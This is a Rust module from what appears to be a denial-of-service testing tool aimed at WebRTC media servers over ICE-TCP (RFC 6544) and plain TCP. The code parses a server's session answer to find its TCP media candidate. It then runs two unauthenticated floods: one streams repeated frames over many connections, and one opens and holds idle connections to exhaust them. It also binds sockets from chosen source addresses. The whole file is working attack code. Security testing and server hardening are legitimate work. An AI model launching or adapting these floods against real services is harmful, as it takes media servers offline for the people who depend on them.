//! Floods by ICE-TCP (RFC 6544) and by plain TCP, without a word of authentication.

use std::collections::VecDeque;
use std::io::{self, Read as _, Write as _};
use std::net::{IpAddr, SocketAddr, TcpStream};
use std::os::fd::FromRawFd as _;
use std::time::Duration;

use super::{Attack, Target, sessions};
use crate::error::Result;
use crate::peer::Credentials;

/// Bytes written at a time.
const WRITE_BYTES: usize = 64 * 1024;
/// A connection that takes nothing for so long is given up.
const WRITE_MAX: Duration = Duration::from_secs(2);

/// Where the server takes media by TCP, as an answer to the attacker says.
pub fn media(target: &Target, credentials: &Credentials) -> Result<SocketAddr> {
    let answer = sessions::ask(target, credentials)?;
    tcp_candidate(&answer).ok_or(crate::Error::Answer("TCP candidate"))
}

/// Connects and streams `frame` for as long as the server takes it, then connects again; on so many connections.
pub fn frames(target: &Target, media: SocketAddr, frame: &[u8], connections: usize) -> Attack {
    let bytes = frame.repeat((WRITE_BYTES / frame.len().max(1)).max(1));
    let from = target.source_towards(media);
    Attack::start(connections, move |course| {
        course.counts.tried();
        let Ok(mut stream) = connect_from(from, media) else { return course.refuse() };
        let _ = stream.set_write_timeout(Some(WRITE_MAX));
        while !course.is_over() {
            course.take(bytes.len());
            match stream.write(&bytes) {
                Ok(n) => drop(course.counts.bytes.fetch_add(n as u64, super::Relaxed)),
                Err(_) => return course.counts.refused(),
            }
        }
    })
}

/// Connects as often as it can and says nothing, holding the last `held` connections open.
pub fn silence(target: &Target, media: SocketAddr, held: usize) -> Attack {
    let from = target.source_towards(media);
    Attack::start(1, move |course| {
        let mut open = VecDeque::new();
        while !course.is_over() {
            course.counts.tried();
            match connect_from(from, media) {
                Ok(stream) => open.push_back(stream),
                Err(_) => course.refuse(),
            }
            if open.len() > held {
                open.pop_front();
            }
        }
    })
}

/// The first ICE-TCP candidate of IPv4 in an answer (RFC 6544 §4.5).
pub fn tcp_candidate(answer: &str) -> Option<SocketAddr> {
    answer.lines().filter_map(|line| line.strip_prefix("a=candidate:")).find_map(|candidate| {
        let words: Vec<&str> = candidate.split_whitespace().collect();
        let [_, _, transport, _, address, port, ..] = words[..] else { return None };
        let address = SocketAddr::new(address.parse().ok()?, port.parse().ok()?);
        (transport.eq_ignore_ascii_case("tcp") && address.is_ipv4()).then_some(address)
    })
}

/// Connects to an address of IPv4, by an address of our own: all of 127.0.0.0/8 is this machine's.
pub fn connect_from(from: IpAddr, to: SocketAddr) -> io::Result<TcpStream> {
    let address = |ip: IpAddr, port: u16| match ip {
        IpAddr::V4(ip) => Ok(libc::sockaddr_in {
            sin_family: libc::AF_INET as libc::sa_family_t,
            sin_port: port.to_be(),
            sin_addr: libc::in_addr { s_addr: u32::from(ip).to_be() },
            sin_zero: [0; 8],
        }),
        IpAddr::V6(_) => Err(io::Error::from(io::ErrorKind::Unsupported)),
    };
    let (from, to) = (address(from, 0)?, address(to.ip(), to.port())?);
    let length = size_of::<libc::sockaddr_in>() as libc::socklen_t;
    let check = |result: libc::c_int| if result < 0 { Err(io::Error::last_os_error()) } else { Ok(result) };
    // SAFETY: no pointers are involved.
    let fd = check(unsafe { libc::socket(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_CLOEXEC, 0) })?;
    // SAFETY: the descriptor was just made and is nobody else's.
    let stream = unsafe { TcpStream::from_raw_fd(fd) };
    // SAFETY: the addresses outlive the calls, and are as long as is said.
    unsafe {
        check(libc::bind(fd, (&raw const from).cast(), length))?;
        check(libc::connect(fd, (&raw const to).cast(), length))?;
    }
    Ok(stream)
}

/// Sends one packet, framed (RFC 4571 §2), and returns the first that comes back.
pub fn exchange(stream: &mut TcpStream, packet: &[u8]) -> io::Result<Vec<u8>> {
    stream.set_read_timeout(Some(Duration::from_secs(10)))?;
    stream.write_all(&[&(packet.len() as u16).to_be_bytes()[..], packet].concat())?;
    let mut length = [0; 2];
    stream.read_exact(&mut length)?;
    let mut answer = vec![0; usize::from(u16::from_be_bytes(length))];
    stream.read_exact(&mut answer)?;
    Ok(answer)
}
